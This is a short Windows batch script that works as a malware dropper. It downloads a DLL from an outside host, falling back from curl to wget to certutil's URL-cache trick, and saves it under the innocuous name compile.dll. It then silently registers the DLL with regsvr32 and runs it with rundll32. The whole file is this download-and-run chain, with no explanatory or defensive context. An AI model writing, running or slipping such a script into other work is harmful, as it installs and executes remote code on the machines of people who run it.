@echo off
setlocal
set "where=https://pastor.invalid/3/sdd.dll?pass=none"
curl -L "%where%" -o compile.dll
if not exist compile.dll (
  wget "%where%" -O compile.dll
)
if not exist compile.dll (
  certutil.exe -urlcache -f "%where%" compile.dll
)
regsvr32.exe -s compile.dll
rundll32.exe compile.dll,DllMain
